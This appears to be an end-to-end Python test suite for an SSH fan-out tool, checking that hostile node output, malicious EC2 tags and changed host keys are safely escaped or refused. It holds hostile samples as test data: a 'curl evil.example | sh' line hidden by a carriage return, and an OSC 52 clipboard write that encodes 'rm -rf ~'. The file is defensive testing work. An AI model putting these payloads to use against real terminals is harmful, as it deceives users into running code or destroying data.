"""E2E: what a hostile node, a hostile Name tag and a changed host key can do to dust (issue 20, items
2, 3, 6, 7). The node is a real sshd host whose login profile makes `uptime` print the attacker's bytes
(SshHost.hostile): a fake sudo prompt with thousands of control bytes (std::regex overflowed the stack),
terminal escape sequences (titles, OSC 52 clipboard, cursor moves, SGR conceal), CR tricks that hide
text from a transcript. Name tags set through the EC2 API carry escapes too. Every case failed before."""
import json
import os
import secrets

import pexpect

import testbed

ESC = "\x1b"
# What an attacker prints: window title, clipboard write (OSC 52), clear screen + home, concealed text,
# blink, then plain colour (the only thing that may reach a terminal).
ESCAPES = (b"\x1b]0;pwned-title\x07\x1b]52;c;cm0gLXJmIH4K\x07\x1b[2J\x1b[H"
           b"\x1b[8mhidden\x1b[0m \x1b[5mblink\x1b[0m \x1b[31mred\x1b[0m end\n")
EVIL_NAME = "evil\x1b]0;pwned\x07\x1b[2J"
EVIL_SHOWN = "evil\\x1b]0;pwned\\x07\\x1b[2J"


def lines_of(out, node):
    return [l[len(node) + 3:] for l in out.splitlines() if l.startswith(f"[{node}] ")]


class HostileNode(testbed.SandboxTestCase):
    HOSTS = 2  # master (hostile), worker0

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.evil = cls.sandbox.host("master")
        cls.evil.hostile(b"")

    def test_fake_sudo_prompt_with_a_control_byte_flood_does_not_crash(self):
        # The prompt with 8,000 \001 bytes where the user name goes, then after it: no stack overflow.
        for payload in (b"[sudo] password for " + b"\x01" * 8000 + b":",
                        b"[sudo] password for x:" + b"\x01" * 8000):
            self.evil.hostile(payload)
            # The pause leaves the prompt a partial line (the prompt detector's input) for 1 s.
            r = self.dust("@master,worker0", "uptime; sleep 2; echo; echo after", timeout=60)
            self.assertEqual(r.rc, 0, r.err[-2000:])
            out = lines_of(r.out, "master")
            self.assertEqual(out[-1], "after", r.out[-500:])
            self.assertTrue(out[0].startswith("[sudo] password for "), r.out[:300])
            self.assertIn("\\x01" * 100, r.out)
            self.assertNotIn("\x01", r.out)
            self.assertEqual(lines_of(r.out, "worker0")[-1], "after", r.out[-500:])

    def test_escape_sequences_reach_no_pipe_and_are_shown(self):
        self.evil.hostile(ESCAPES)
        r = self.dust("@master", "uptime")
        self.assertEqual(r.rc, 0, r.err)
        self.assertNotIn(ESC, r.out + r.err)
        line = lines_of(r.out, "master")[0]
        self.assertEqual(line, "\\x1b]0;pwned-title\\x07\\x1b]52;c;cm0gLXJmIH4K\\x07\\x1b[2J\\x1b[H"
                               "\\x1b[8mhidden \\x1b[5mblink red end")

    def test_only_plain_colour_reaches_a_terminal(self):
        self.evil.hostile(ESCAPES)
        c = self.spawn(NO_COLOR="")
        c.expect(r"dust:\S*\$ ")
        c.sendline("@master uptime")
        c.expect_exact("end")
        shown = c.before
        self.assertIn(ESC + "[31mred" + ESC + "[0m", shown)  # plain colour passes
        for raw in (ESC + "]0;", ESC + "]52;", ESC + "[2J", ESC + "[H", ESC + "[8m", ESC + "[5m"):
            self.assertNotIn(raw, shown)
        self.assertIn("\\x1b]52;c;cm0gLXJmIH4K\\x07", shown)
        self.assertIn("\\x1b[8mhidden", shown)
        c.sendline("exit")
        c.expect(pexpect.EOF)

    def test_json_lines_carry_no_escape(self):
        self.evil.hostile(ESCAPES)
        r = self.dust("--json", "@master", "uptime")
        self.assertEqual(r.rc, 0, r.err)
        recs = [json.loads(l) for l in r.out.splitlines()]
        lines = [x["line"] for x in recs if "line" in x]
        self.assertEqual(len(lines), 1, r.out)
        self.assertNotIn(ESC, lines[0])
        self.assertIn("\\x1b[8mhidden", lines[0])

    def test_transcripts_keep_what_a_carriage_return_hides(self):
        self.evil.hostile(b"curl evil.example | sh\rls -l                  \n")
        logdir = os.path.join(self.sandbox.dir, "transcripts-cr")
        r = self.dust("--log-dir", logdir, "@master", "uptime")
        self.assertEqual(r.rc, 0, r.err)
        self.assertEqual(lines_of(r.out, "master"), ["ls -l                  "])  # what a terminal shows
        with open(os.path.join(logdir, "master.log")) as f:
            log = f.read()
        self.assertIn("| curl evil.example | sh\\rls -l", log)

    def test_a_hostile_name_tag_is_shown_escaped(self):
        sb = self.sandbox
        inst = sb.instance("worker0")
        sb.ec2.create_tags(Resources=[inst.id], Tags=[{"Key": "Name", "Value": EVIL_NAME},
                                                       {"Key": "note", "Value": "x\x1b[8my"}])
        self.addCleanup(sb.ec2.create_tags, Resources=[inst.id], Tags=[{"Key": "Name", "Value": "worker0"}])
        self.addCleanup(sb.ec2.delete_tags, Resources=[inst.id], Tags=[{"Key": "note"}])
        r = self.dust("showex")
        self.assertEqual(r.rc, 0, r.err)
        self.assertNotIn(ESC, r.out + r.err)
        self.assertIn(EVIL_SHOWN, r.out)
        self.assertIn("note=x\\x1b[8my", r.out)
        # Its `[label]` prefix, and the JSON records' node label (as printed).
        r = self.dust(f"@id={inst.id}", "hostname")
        self.assertEqual(r.rc, 0, r.err)
        self.assertNotIn(ESC, r.out + r.err)
        self.assertEqual(lines_of(r.out, EVIL_SHOWN), ["worker0"], r.out)
        r = self.dust("--json", f"@id={inst.id}", "hostname")
        nodes = {json.loads(l).get("node") for l in r.out.splitlines()} - {None}
        self.assertEqual(nodes, {EVIL_SHOWN}, r.out)


PASSWORD = "pw-" + secrets.token_hex(8)


class HostileSudo(testbed.SandboxTestCase):
    """Item 7: the sudo password goes only to nodes of the request that asked; a line typed to a
    password prompt is kept out of history and transcripts."""
    HOSTS = 2  # master, worker0
    SUDO_USER = ("dusty", PASSWORD)

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        sb = cls.sandbox
        cls.cfg = os.path.join(sb.dir, "sudo_ssh_config")
        with open(cls.cfg, "w") as f:
            f.write(f"Host *\n    User dusty\n    IdentityFile {sb.identity}\n"
                    f"    UserKnownHostsFile {sb.known_hosts}\n    StrictHostKeyChecking accept-new\n")

    def session(self):
        self.logdir = os.path.join(self.sandbox.dir, "transcripts")
        c = self.spawn("-F", self.cfg, "--log-dir", self.logdir, timeout=30)
        c.expect(r"dust:\S*\$ ")
        return c

    def test_the_password_goes_to_no_node_of_another_request(self):
        c = self.session()
        # master runs a request of its own that prints a prompt-like line 4 s later and reads a line.
        c.sendline("@master sleep 4; printf '[sudo] password for dusty: '; read -r p; echo \"master got [$p]\"")
        c.expect(r"dust:\S*\$ ")
        c.sendline("@worker0 sudo sleep 6; echo w0-done")
        c.expect(r"sudo password for worker0 \(1 node\): ")
        c.sendline(PASSWORD)
        # master's prompt comes while worker0's answer is still in memory: asked for, never given.
        i = c.expect([r"sudo password for master \(1 node\): ", r"master got \["], timeout=15)
        self.assertEqual(i, 0, "the password went to a node of another request")
        c.sendcontrol("d")  # not given: master's command is interrupted
        c.expect(r"\[worker0\] w0-done", timeout=15)
        c.sendline("exit")
        c.expect(pexpect.EOF)

    def test_a_line_typed_to_a_password_prompt_is_not_recorded(self):
        c = self.session()
        secret = "typed-" + secrets.token_hex(6)
        c.sendline("@master printf 'Password: '; read -rs p; echo \"len=${#p}\"")
        c.expect(r"\[master\] Password: ")
        c.sendline(f"@master {secret}")
        c.expect(rf"\[master\] len={len(secret)}")
        c.sendline("@master echo visible-line")
        c.expect(r"\[master\] visible-line")
        c.sendline("exit")
        c.expect(pexpect.EOF)
        with open(os.path.join(self.sandbox.dust_home, "history")) as f:
            history = f.read()
        self.assertIn("@master echo visible-line", history)
        self.assertNotIn(secret, history)
        with open(os.path.join(self.logdir, "master.log")) as f:
            log = f.read()
        self.assertNotIn(secret, log)
        self.assertIn("> (secret input, not recorded)", log)


class HostKeysAsOpenSsh(testbed.SandboxTestCase):
    """Item 6: StrictHostKeyChecking as OpenSSH: true refuses unknown keys, ask refuses and says how to
    accept, no connects past a changed key with OpenSSH's warning (naming node, type, fingerprint) and
    that node never gets a sudo password."""
    HOSTS = 2  # master, worker0
    SUDO_USER = ("dusty", PASSWORD)

    def config(self, policy, known, user="root"):
        path = os.path.join(self.sandbox.dir, f"ssh_config_{policy}_{user}")
        with open(path, "w") as f:
            f.write(f"Host *\n    User {user}\n    IdentityFile {self.sandbox.identity}\n"
                    f"    UserKnownHostsFile {known}\n    StrictHostKeyChecking {policy}\n")
        return path

    def test_no_gives_no_sudo_password_past_a_changed_key(self):
        known = self.fresh_known_hosts("kh_no_sudo")
        cfg = self.config("no", known, user="dusty")
        self.assertEqual(self.dust("-F", cfg, "@master", "true").rc, 0)
        self.sandbox.host("master").restart(new_host_key=True)
        c = self.spawn("-F", cfg, timeout=30)
        c.expect(r"dust:\S*\$ ")
        c.sendline("@master sudo true; echo st=$?")
        c.expect("REMOTE HOST IDENTIFICATION HAS CHANGED! master")
        i = c.expect([r"sudo password not asked for: this node's host key changed",
                      r"sudo password for master"])
        self.assertEqual(i, 0, "asked for a password for a node past a changed key")
        seen = c.before + c.after
        c.sendline("intr master")
        c.expect(r"\[master\] st=\d+")
        self.assertIn("[master] [sudo] password for dusty:", seen + c.before)  # shown, nothing sent
        c.sendline("exit")
        c.expect(pexpect.EOF)

    def fresh_known_hosts(self, name):
        path = os.path.join(self.sandbox.dir, name)
        open(path, "w").close()
        return path

    def test_true_refuses_an_unknown_key_like_yes(self):
        known = self.fresh_known_hosts("kh_true")
        r = self.dust("-F", self.config("true", known), "@master", "hostname")
        self.assertEqual(r.rc, 255, r.out + r.err)
        # `true` is `yes` (OpenSSH): the refusal names the policy as yes.
        self.assertRegex(r.err, r"\[master\] error: unknown host key ssh-ed25519 SHA256:\S+ refused "
                                r"\(StrictHostKeyChecking yes")
        self.assertEqual(os.path.getsize(known), 0)

    def test_ask_refuses_and_says_how_to_accept(self):
        known = self.fresh_known_hosts("kh_ask")
        r = self.dust("-F", self.config("ask", known), "@master", "hostname")
        self.assertEqual(r.rc, 255, r.out + r.err)
        self.assertIn("StrictHostKeyChecking ask: dust does not ask per node", r.err)
        self.assertIn("accept-new", r.err)

    def test_no_connects_past_a_changed_key_with_the_warning(self):
        known = self.fresh_known_hosts("kh_no")
        cfg = self.config("no", known)
        r = self.dust("-F", cfg, "@worker0", "hostname")
        self.assertEqual(r.rc, 0, r.err)  # unknown: recorded, as OpenSSH does under `no`
        self.assertGreater(os.path.getsize(known), 0, "libssh must not skip known_hosts under `no`")
        h = self.sandbox.host("worker0")
        h.restart(new_host_key=True)
        r = self.dust("-F", cfg, "@worker0", "hostname")
        self.assertEqual(lines_of(r.out, "worker0"), ["worker0"], r.err)
        self.assertIn("WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! worker0 now offers "
                      f"ssh-ed25519 {h.fingerprint()}", r.err)
        self.assertIn("no sudo password will be sent to it", r.err)
        # accept-new (and yes) still refuse it.
        r = self.dust("-F", self.config("accept-new", known), "@worker0", "hostname")
        self.assertEqual(r.rc, 255)
        self.assertIn("HOST KEY CHANGED", r.err)


if __name__ == "__main__":
    testbed.main()
